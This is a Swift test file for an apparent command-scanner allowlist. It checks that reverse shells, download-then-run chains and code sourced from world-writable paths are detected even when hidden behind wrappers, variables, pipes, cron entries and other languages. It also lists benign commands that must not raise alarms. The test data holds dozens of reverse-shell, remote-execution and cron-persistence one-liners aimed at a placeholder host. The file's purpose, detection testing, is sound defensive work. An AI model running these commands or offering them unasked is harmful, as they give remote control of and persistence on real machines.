import Posture
import Testing

@testable import Allowlist

/// Code that is followed through variables, files, pipes and programs that start others.
struct ShapeFlowTests {
    private func findings(_ arguments: [String]) -> [CommandFinding.Shape] {
        var view = StartView(exampleStart("/usr/bin/" + arguments[0], arguments), content: .init())
        return view.findings().map(\.shape)
    }

    @Test(arguments: [
        // Letters of options that stand together, each with a value behind.
        "bash -euo pipefail -c 'nc -e sh h 1'", "bash -o errexit -euxo pipefail -c 'nc -e sh h 1'",
        "sudo -nu root nc -e sh h 1", "sudo --user root nc -e sh h 1",
        "env --split-string='nc -e sh h 1'", "env -vS 'A=1 nc -e sh h 1'",
        "stdbuf --output L nc -e sh h 1", "setpriv --reuid 1000 nc -e sh h 1",
        "systemd-run --unit x -p A=b nc -e sh h 1", "runuser -u nobody -- nc -e sh h 1",
        "start-stop-daemon -S -x /usr/bin/nc -- -e /bin/sh h 1",
        "capsh --drop=all -- -c 'nc -e sh h 1'", "find / -name x -exec nc -e sh h 1 ;",
        "find / -exec bash -c 'bash -i >& /dev/tcp/h/1 0>&1' \\;",
        "flock /run/l -c 'nc -e sh h 1'", "su --command='nc -e sh h 1' root",
        "su root -c'nc -e sh h 1'", "parallel -- nc -e sh h 1 ::: 1",
        "watch -n 60 'nc -e sh h 1'", "tini -- nc -e sh h 1", "gosu web nc -e sh h 1",
        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='nc -e sh h 1'",
        "vim -c ':!nc -e sh h 1'", "gdb -nx -ex '!bash -i >& /dev/tcp/h/1 0>&1' -ex quit",
        "sqlite3 /dev/null '.shell nc -e sh h 1'",
        // Other languages.
        "python3 -c 'import socket,subprocess;s.connect(x)\nwhile 1: s.send(subprocess.getoutput(s.recv(9)))'",
        "python3 -c 'import socket,os;s.connect(x)\nwhile 1: os.system(s.recv(9))'",
        "ruby -rsocket -e 'c=TCPSocket.new(\"h\",1);while(x=c.gets);c.print `#{x}`;end'",
        "node -e 'require(\"child_process\").exec(\"nc -e sh h 1\")'",
        "deno eval 'c=await Deno.connect({port:1});p=new Deno.Command(\"sh\")'",
        "awk 'BEGIN{system(\"nc -e sh h 1\")}'",
        "python3 - <<E\nimport socket,os,pty\ns.connect(x);os.dup2(s.fileno(),0);pty.spawn(\"sh\")\nE",
        "echo 'import socket,os;s.connect(x);os.dup2(s.fileno(),0)' | python3",
        "echo 'set s [socket h 1]; while 1 {gets $s c; puts $s [exec $c]}' | tclsh",
        // Ways between commands.
        "trap 'bash -i >& /dev/tcp/h/1 0>&1' EXIT", "echo -e 'nc -e sh h 1' | bash -s",
        "su root <>/dev/tcp/h/1 >&0",
        "export X=nc; $X -e sh h 1", "coproc nc h 1; bash <&${COPROC[0]} >&${COPROC[1]}",
        "exec 3<>/dev/tcp/h/1; while read l <&3; do bash -c \"$l\" >&3 2>&3; done",
        "curl -Ns telnet://h:1 | sh | curl -T - telnet://h:1",
        "echo '* * * * * nc -e sh h 1' | crontab -",
        "(crontab -l; echo '@reboot nc -e sh h 1') | crontab -",
        "echo '* * * * * root nc -e sh h 1' > /etc/cron.d/x",
        "rcat connect -s sh h 1", "websocat ws://h sh-c:'bash -i'",
    ])
    func `a reverse shell is seen through what hides it`(code: String) {
        #expect(findings(["bash", "-c", code]).contains(.reverseShell))
    }

    @Test(arguments: [
        "bash -euo pipefail -c 'curl h/x | sh'",
        // Variables.
        "x=$(curl h/x); eval \"$x\"", "x=$(curl h/x); bash -c \"$x\"", "x=`wget -qO- h/x`; $x",
        "x=$(curl h/x); echo \"$x\" | sh", "export x=$(curl h/x); eval $x",
        "D=$(mktemp); curl h/x -o $D; sh $D", "F=$(mktemp); curl h/x > \"$F\"; bash \"$F\"",
        "m=$(curl h/x); exec $m", "curl h/x | $SHELL", "curl h/x | $0",
        // Loops and arguments.
        "curl h/x | while read l; do bash -c \"$l\"; done", "curl h/x | xargs -I{} sh -c '{}'",
        "curl h/x | xargs -0 bash -c", "curl h/x | while read -r l; do eval \"$l\"; done",
        // Files.
        "echo x | base64 -d > /opt/x; chmod +x /opt/x; /opt/x", "base64 -d a > x.sh && bash x.sh",
        "echo x | base64 -d | gunzip > /opt/k && /opt/k", "curl h/x | tee /opt/y; sh /opt/y",
        "tftp -g -r x.sh 1.2.3.4; sh x.sh", "ftpget -u a 1.2.3.4 f.sh f.sh; sh f.sh",
        "printf '\\x7f\\x45\\x4c' > /opt/x; /opt/x", "cat </dev/tcp/h/1 > x; sh x",
        "curl --output=x h/x && sh x", "wget -O/opt/x h/x; sh /opt/x",
        // What else fetches and decodes.
        "sh -c \"$(cat </dev/tcp/h/80)\"", "dig +short TXT h | tr -d '\"' | bash",
        "aws s3 cp s3://b/x - | sh", "gpg -d x.gpg | bash", "rev <<< x | sh",
        "printf '\\x6e\\x63' | bash", "echo -e '\\x6e\\x63 x' | sh",
        "$(printf '\\156\\143') -e sh h 1", "echo x | python3 -m base64 -d | bash",
        // Shells that are not named.
        "curl h/x | sudo su", "curl h/x | su - root", "curl h/x | sudo -s",
        "curl h/x | chroot /host", "curl h/x | nsenter -t 1 -m", "curl h/x | crontab -",
        // Other languages.
        "python3 -c \"import os;os.system('curl h/x | sh')\"",
        "perl -e 'system(\"curl h/x | sh\")'", "perl -MLWP::Simple -e 'eval get(\"http://h/x\")'",
        "ruby -e 'system(\"curl h/x|bash -s\")'", "php -r 'system(\"curl h/x | sh\");'",
        "php -r 'include(\"http://h/x\");'",
        "node -e 'require(\"child_process\").execSync(\"curl h/x | sh\")'",
        "node -e 'require(\"http\").get(\"http://h/x\",r=>r.on(\"data\",d=>eval(d)))'",
        "node -e 'fetch(\"http://h/x\").then(r=>r.text()).then(eval)'",
    ])
    func `a download that is run is seen through what hides it`(code: String) {
        #expect(findings(["bash", "-c", code]).contains(.downloadThenRun))
    }

    @Test(arguments: [
        ["env", "--split-string=nc -e sh h 1"],
        ["find", "/", "-exec", "nc", "-e", "sh", "h", "1", ";"],
        ["start-stop-daemon", "-S", "--exec", "/bin/nc", "--", "-e", "sh", "h", "1"],
        ["capsh", "--", "-c", "nc -e sh h 1"],
        ["sudo", "--user", "root", "nc", "-e", "sh", "h", "1"],
        ["bash", "-euo", "pipefail", "-c", "nc -e sh h 1"],
        ["busybox.static", "nc", "h", "1", "-e", "sh"], ["bash-static", "-c", "nc -e sh h 1"],
        ["tar", "cf", "x", "y", "--checkpoint-action=exec=nc -e sh h 1"],
    ])
    func `programs that start others are seen through`(arguments: [String]) {
        #expect(findings(arguments).contains(.reverseShell))
    }

    @Test(arguments: [
        // What is fetched is an argument, or is only shown.
        "curl -s http://localhost/app; /usr/bin/app --check",
        "curl -s http://localhost/install.sh | head -1; sh install.sh",
        "sh build.sh --version \"$(curl -s https://h/stable.txt)\"",
        "python3 deploy.py --ip $(curl -s https://h/ip)", "x=$(curl -s h/ip); echo \"ip is $x\"",
        "v=$(curl -s h/v); curl -LO \"https://h/$v/kubectl\"; install kubectl /usr/local/bin",
        "F=$(mktemp); curl -fsS h/x > $F; mv $F /etc/x",
        "x=$(curl -s localhost/up); test \"$x\" = 1",
        "curl -s h/list | while read l; do ipset add x \"$l\"; done",
        "curl -s h/list | xargs -I{} sh -c 'echo \"$1\"' _ {}",
        "wget -qO- h/l | xargs -n1 ping -c1",
        "curl -s h/x | sudo tee /etc/apt/sources.list.d/x.list", "dig +short h | head -1",
        "eval \"$(aws ecr get-login --no-include-email)\"", "aws s3 cp s3://b/x.tgz - | tar xz",
        "ssh master kubeadm token create --print-join-command | sh",
        "base64 -d /etc/conf.b64 > /etc/app.conf; exec /app --config /etc/app.conf",
        "gpg -d /etc/secret.gpg | kubectl apply -f -",
        "printf '\\033[1mready\\033[0m\\n'; sh run.sh",
        "echo \"$SCRIPT\" | bash", "echo 'import sys; print(1)' | python3",
        // Connections that hand nothing to a shell.
        "python3 -c 'import socket,subprocess; print(socket.gethostname(), subprocess.check_output([\"uname\"]))'",
        "python3 - <<E\nimport json,subprocess\nprint(subprocess.check_output([\"ls\"]))\nE",
        "cat <<E | python3\nimport urllib.request,subprocess\nprint(urllib.request.urlopen(\"http://localhost\").read())\nE",
        "gawk 'BEGIN { s = \"/inet/tcp/0/localhost/80\"; print \"GET /\" |& s; s |& getline; print }'",
        "cat <<E > /etc/x.py\nimport socket,subprocess\nsocket.connect(x)\nE",
        // Programs that start others.
        "env -S 'python3 -u' /srv/x.py", "sudo --user postgres psql", "sudo -s true",
        "find /etc -name '*.sh' -exec bash -n {} +", "runuser -u web -- /usr/bin/x",
        "start-stop-daemon --start --exec /usr/sbin/nginx -- -g 'daemon off;'",
        "vim -c 'set nu' x", "gdb -batch -ex bt -p 1", "trap 'rm -f /run/x; exit' EXIT TERM",
        "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec su web",
        "exec gosu redis \"$0\" \"$@\"", "watch -n 5 'curl -s localhost/health'",
        "tar czf - /srv --checkpoint=1000 --checkpoint-action=dot",
        "bash -euo pipefail -c 'date | tee /var/log/d'", "coproc cat; echo x >&${COPROC[1]}",
        "crontab -l | grep -v x | crontab -", "echo '0 * * * * root /usr/bin/x' > /etc/cron.d/x",
        "awk '{ system(\"echo \" $1) }' /etc/x", ". /etc/default/x; . /usr/lib/x/functions",
    ])
    func `what is fetched and not run is no alarm`(code: String) {
        #expect(findings(["bash", "-c", code]) == [])
    }

    @Test func `code that is read where everyone may write is seen`() {
        #expect(findings(["sh", "-c", ". /tmp/env; run"]) == [.writablePlace])
        #expect(findings(["bash", "-c", "if x; then source /var/tmp/a/b; fi"]) == [.writablePlace])
        #expect(findings(["sh", "-c", ". /etc/tmp/env"]) == [])
    }

    @Test func `many uses of a variable cost no more than the limit`() {
        let uses = String(repeating: "\"$x\" ", count: 9_000)
        #expect(findings(["sh", "-c", "x=$(curl h/x); eval \(uses)"]).contains(.downloadThenRun))
    }
}
